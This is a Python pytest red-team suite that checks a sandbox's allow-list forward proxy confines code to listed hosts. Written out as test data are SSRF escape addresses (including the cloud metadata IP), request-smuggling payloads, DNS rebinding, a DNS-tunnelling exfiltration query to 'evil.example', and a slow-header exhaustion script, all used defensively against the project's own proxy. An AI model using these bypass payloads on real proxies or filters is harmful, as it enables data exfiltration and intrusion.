"""Hostile code in a sandbox with a list of hosts reaches those hosts and no other, by any name."""

import asyncio
import socket
import ssl
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from perdure.sandboxes.base import Network, Sandbox, SandboxProvider
from perdure.sandboxes.host import forward_proxy as proxies
from perdure.sandboxes.host.allow_list import AllowList
from perdure.sandboxes.host.forward_proxy import UnreachedHosts, forward_proxy
from perdure.sandboxes.host.host_addresses import Place
from tests.certificates import Authority, issue
from tests.redteam.conftest import Boot, attack

ASK = """
import os, socket, ssl, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])

def said(request):
    with socket.create_connection((proxy.hostname, proxy.port), 20) as end:
        end.sendall(request.encode())
        return end.recv(100).split(b" ")[1:2]

for host in sys.argv[1:]:
    if said(f"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n") == [b"200"]:
        print("tunnel", host)
    if said(f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n") == [b"200"]:
        print("plain", host)
"""
"""Prints the hosts that it reaches."""
HANDSHAKE = """
import os, socket, ssl, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
host, name = sys.argv[1:]
end = socket.create_connection((proxy.hostname, proxy.port), 20)
end.sendall(f"CONNECT {host} HTTP/1.1\\r\\n\\r\\n".encode())
end.recv(4096)
if name == "-":
    end.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
    print(end.recv(100))
else:
    context = ssl._create_unverified_context()
    try:
        print(context.wrap_socket(end, server_hostname=name or None).version())
    except OSError:
        print("closed")
"""
FETCH = """
import sys, urllib.request
try:
    print(urllib.request.urlopen(sys.argv[1]).read().decode())
except OSError as error:
    print(error)
"""
AROUND = """
import socket, struct, sys
port = int(sys.argv[1])
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\6stolen\\4evil\\7example\\0" + struct.pack(">2H", 16, 1)
for name in ("files.example", "data-in-a-name.evil.example"):
    try:
        print(socket.getaddrinfo(name, 443))
    except OSError:
        pass
for address in (
    ("127.0.0.1", port), ("127.0.0.1", 18001), ("198.51.100.7", 443), ("8.8.8.8", 53),
    ("2001:db8::7", 443), ("::ffff:198.51.100.7", 443), ("::1", port), ("fe80::1", 443),
):
    try:
        socket.create_connection(address, 2)
        print("reached", address)
    except OSError:
        pass
for address in (("8.8.8.8", 53), ("127.0.0.53", 53), ("198.51.100.7", 443), ("2001:db8::7", 443)):
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as end:
        end.settimeout(1)
        try:
            end.sendto(query, address)
            print("answered", address, end.recv(512))
        except OSError:
            pass
for family, kind, protocol in (
    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
):
    try:
        socket.socket(family, kind, protocol)
        print("raw", family)
    except OSError:
        pass
"""
RAW = """
import os, socket, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
for request in sys.argv[1:]:
    with socket.create_connection((proxy.hostname, proxy.port), 20) as end:
        try:
            end.sendall(request.encode().decode("unicode_escape").encode("latin-1"))
            answer = b""
            while piece := end.recv(4096):
                answer += piece
        except OSError:
            pass
        words = answer.decode("latin-1").split()
        print(*[word for word in words if word in ("200", "400", "403", "405", "431")])
"""
"""Sends each request as it is, and prints the status codes of the answers."""
HOLD = """
import os, socket, sys, urllib.parse, urllib.request
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
held = [socket.create_connection((proxy.hostname, proxy.port), 20) for _ in range(40)]
for end in held:
    end.sendall(b"GET http://files.example/ HTTP/1.1\\r\\nX: ")
print(urllib.request.urlopen(sys.argv[1]).read().decode())
for end in held:
    end.settimeout(60)
    print(len(end.recv(100)), end="")
"""


class Names:
    """A name server: `files.example` and `inside.example` are this host, `lan.example` is private."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.rebound = "198.51.100.7"
        """The address of `rebound.example`; from its second lookup on, it is this host."""
        self._real = socket.getaddrinfo

    def __call__(self, host: Any, *rest: Any, **more: Any) -> Any:
        found = {"files.example": "127.0.0.1", "inside.example": "127.0.0.1"}
        found |= {"lan.example": "10.9.8.7", "mapped.example": "::ffff:10.9.8.7"}
        if host == "rebound.example":
            found[host], self.rebound = self.rebound, "127.0.0.1"
        if str(host).endswith(".example"):
            self.asked.append(host)
        return self._real(found.get(host, host), *rest, **more)


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> Names:
    made = Names()
    monkeypatch.setattr(socket, "getaddrinfo", made)
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)
    return made


@pytest.fixture
def authority(tmp_path: Path) -> Authority:
    return Authority.of(tmp_path)


@asynccontextmanager
async def serving(
    context: ssl.SSLContext | None = None, reply: str = "", heads: list[bytes] | None = None
) -> AsyncIterator[int]:
    """The port of a server that says hello, or answers with `reply`. `heads` gets what was sent."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if head := await reader.read(4096):
            if heads is not None:
                heads.append(head)
            said = reply or "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello"
            writer.write(said.encode())
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, ssl=context)
    async with server:
        yield server.sockets[0].getsockname()[1]


@pytest.fixture
async def port(names: Names, authority: Authority, tmp_path: Path) -> AsyncIterator[int]:
    """Of an HTTPS server for files.example on this host."""
    own = issue(tmp_path, "files", "DNS:files.example")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(own.certificate, own.key)
    async with serving(context) as port:
        yield port


@asynccontextmanager
async def box_that_reaches(
    boot: Boot, provider: SandboxProvider, *hosts: str
) -> AsyncIterator[tuple[Sandbox, UnreachedHosts]]:
    if Network.LISTED not in provider.networks:
        pytest.skip(f"{provider.name} takes no list of hosts")
    box = await boot(network=Network.LISTED)
    assert box.proxy_socket is not None
    allowed = AllowList.of(hosts, "phases.agent.network")
    async with forward_proxy(box.proxy_socket, allowed) as asked:
        yield box, asked


async def test_tools_use_the_proxy_by_themselves(
    boot: Boot, provider: SandboxProvider, port: int, authority: Authority
) -> None:
    """A listed host answers by HTTPS and HTTP, with the variables that each command gets."""
    async with serving() as plain:
        listed = (f"files.example:{port}", f"files.example:{plain}")
        own = (f"127.0.0.1:{port}", f"127.0.0.1:{plain}")
        async with box_that_reaches(boot, provider, *listed, *own) as (box, asked):
            await box.put("/tmp/ca.pem", authority.file.read_bytes())
            trusting = {"SSL_CERT_FILE": "/tmp/ca.pem"}
            said = [
                await box.exec(["python3", "-c", FETCH, url], env=trusting, timeout=120)
                for url in (f"https://files.example:{port}/", f"http://files.example:{plain}/")
            ]

    assert [one.stdout for one in said] == [b"hello\n"] * 2
    assert not asked.counts


async def test_no_other_host_port_or_address_is_reached(
    boot: Boot, provider: SandboxProvider, names: Names, port: int
) -> None:
    """Names that are not listed are not even resolved; literals, other ports, IPv6 and names that lead
    to private addresses are refused, and each refusal is counted."""
    listed = [f"files.example:{port}", "*.below.example", f"127.0.0.1:{port}", "0.0.0.0/0"]
    listed += (f"lan.example:{port}", f"mapped.example:{port}", "inside.example", "::/0")
    escapes = (
        *(f"evil.example:{port}", "below.example:443", "files.example:22", "files.example:443"),
        *(f"[::1]:{port}", f"[::ffff:127.0.0.2]:{port}", f"2130706433:{port}", f"127.1:{port}"),
        *("0x7f000001:80", "0.0.0.0:80", "127.0.0.1:80", "169.254.169.254:80", "10.9.8.7:443"),
        *("[fd00:ec2::254]:80", "[64:ff9b::a09:807]:443", "[::ffff:10.9.8.7]:80", "[fe80::1%1]:80"),
        *(f"lan.example:{port}", f"mapped.example:{port}", "inside.example:80"),
        *(f"files.example.evil.example:{port}", f"evil.example#.below.example:{port}"),
        *(f"files.example:{port}@evil.example:{port}", "a..below.example:80", "-.below.example:80"),
    )
    async with box_that_reaches(boot, provider, *listed) as (box, asked):
        found = await attack(box, ASK, *escapes)

    assert found.stdout == b""
    assert set(names.asked) == {"lan.example", "mapped.example", "inside.example"}
    assert {f"evil.example:{port}", "files.example:22", "169.254.169.254:80"} <= asked.refused
    assert asked.counts[Place("files.example.evil.example", port), "not listed"] == 2
    assert asked.counts[Place("lan.example", port), "leads to 10.9.8.7"] == 2


async def test_a_tunnel_carries_only_its_hosts_tls(
    boot: Boot, provider: SandboxProvider, port: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A listed host's server may hold others: a handshake that names another, or none, is cut."""
    monkeypatch.setattr(proxies, "WEB_PORTS", (port,))
    listed = (f"files.example:{port}", f"127.0.0.1:{port}")
    async with box_that_reaches(boot, provider, *listed) as (box, asked):
        said = [
            (await attack(box, HANDSHAKE, f"files.example:{port}", name)).stdout
            for name in ("files.example", "evil.example", "", "-")
        ]

    assert said[0].startswith(b"TLS")
    assert said[1:] == [b"closed\n", b"closed\n", b"b''\n"]
    assert [why for _, why in asked.counts] == [
        "its TLS handshake names evil.example",
        "its TLS handshake names no host",
        "no TLS in the tunnel",
    ]


async def test_a_redirect_leads_to_no_other_host(
    boot: Boot, provider: SandboxProvider, names: Names
) -> None:
    """The sandbox follows the redirect, and asks the proxy again."""
    moved = "HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nContent-Length: 0\r\n\r\n"
    async with serving(reply=moved) as plain:
        listed = (f"files.example:{plain}", f"127.0.0.1:{plain}")
        async with box_that_reaches(boot, provider, *listed) as (box, asked):
            found = await attack(box, FETCH, f"http://files.example:{plain}/")

    assert b"403" in found.stdout
    assert (asked.refused, names.asked) == ({"evil.example:80"}, ["files.example"])


async def test_a_request_reaches_only_the_host_that_was_checked(
    boot: Boot, provider: SandboxProvider, names: Names
) -> None:
    """Another Host field, a second request in the same bytes or body, doubtful fields, and CONNECT to
    other ports: the server sees only checked requests, with its own name."""
    heads: list[bytes] = []
    async with serving(heads=heads) as plain:
        at = f"files.example:{plain}"
        second = "GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
        line = f"GET http://{at}/ HTTP/1.1\\r\\n"
        requests = {
            f"{line}Host: evil.example\\r\\n\\r\\n": b"200",
            f"{line}Connection: keep-alive\\r\\n\\r\\n{second}": b"200",
            f"{line}Content-Length: {len(second)}\\r\\n\\r\\n{second}": b"200",
            f"{line}Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{second}": b"200",
            f"{line}Host : evil.example\\r\\n\\r\\n": b"400",
            f"{line}X: y\\r\\n Host: evil.example\\r\\n\\r\\n": b"400",
            f"{line}X: y\\nHost: evil.example\\r\\n\\r\\n": b"400",
            f"POST http://{at}/ HTTP/1.1\\r\\n\\r\\n": b"405",
            f"GET http://evil.example@{at}@evil.example/ HTTP/1.1\\r\\n\\r\\n": b"403",
            f"GET http://0300.0250.0.1/ HTTP/1.1\\r\\nHost: {at}\\r\\n\\r\\n": b"403",
            "CONNECT files.example:25 HTTP/1.1\\r\\n\\r\\n": b"403",
            "CONNECT files.example:0 HTTP/1.1\\r\\n\\r\\n": b"403",
            f"{line}X: {'x' * 20_000}\\r\\n\\r\\n": b"431",
        }
        async with box_that_reaches(boot, provider, at, f"127.0.0.1:{plain}") as (box, _):
            found = await attack(box, RAW, *requests)

    assert found.stdout.splitlines() == list(requests.values())
    assert len(heads) == 4
    assert all(head.count(b"HTTP/1.1") == 1 and b"evil" not in head for head in heads)
    assert all(f"\r\nHost: {at}\r\n".encode() in head for head in heads)
    assert set(names.asked) == {"files.example"}


async def test_a_name_is_resolved_once(
    boot: Boot, provider: SandboxProvider, names: Names, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The address that was checked is the one that is used, though the name leads here by then."""
    monkeypatch.setattr(proxies, "CONNECT_S", 1.0)
    async with (
        serving() as plain,
        box_that_reaches(boot, provider, f"rebound.example:{plain}") as (box, asked),
    ):
        found = await attack(box, ASK, f"rebound.example:{plain}")
        again = await attack(box, ASK, f"rebound.example:{plain}")

    assert (found.stdout, again.stdout, len(names.asked)) == (b"", b"", 4)
    assert asked.counts[Place("rebound.example", plain), "leads to 127.0.0.1"] == 3


async def test_held_connections_end(
    boot: Boot, provider: SandboxProvider, names: Names, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Requests that never end do not block others, and each is closed after its time."""
    monkeypatch.setattr(proxies, "HEAD_S", 5.0)
    async with serving() as plain:
        listed = (f"files.example:{plain}", f"127.0.0.1:{plain}")
        async with box_that_reaches(boot, provider, *listed) as (box, _):
            found = await attack(box, HOLD, f"http://files.example:{plain}/")

    assert found.stdout == b"hello\n" + b"0" * 40


async def test_another_sandboxs_proxy_is_out_of_reach(
    boot: Boot, provider: SandboxProvider, names: Names
) -> None:
    """A sandbox without a list has nothing on that port; one with a list is kept to its own."""
    async with serving() as plain:
        place = f"files.example:{plain}"
        async with box_that_reaches(boot, provider, place, f"127.0.0.1:{plain}"):
            alone = await boot()
            url = {"HTTPS_PROXY": f"http://127.0.0.1:{proxies.PROXY_PORT}"}
            none = await alone.exec(["python3", "-c", ASK, place], env=url, timeout=60)
            async with box_that_reaches(boot, provider, "other.example") as (other, asked):
                own = await attack(other, ASK, place)

    assert (none.stdout, b"refused" in none.stderr) == (b"", True)
    assert (own.stdout, asked.refused) == (b"", {place})


async def test_there_is_no_way_around_the_proxy(
    boot: Boot, provider: SandboxProvider, port: int
) -> None:
    """The sandbox has no name server, no raw socket and only its own loopback: neither TCP nor UDP,
    nor IPv6, leads out."""
    listed = (f"files.example:{port}", f"127.0.0.1:{port}")
    async with box_that_reaches(boot, provider, *listed) as (box, asked):
        found = await attack(box, AROUND, str(port))

    assert (found.stdout, asked.counts) == (b"", {})
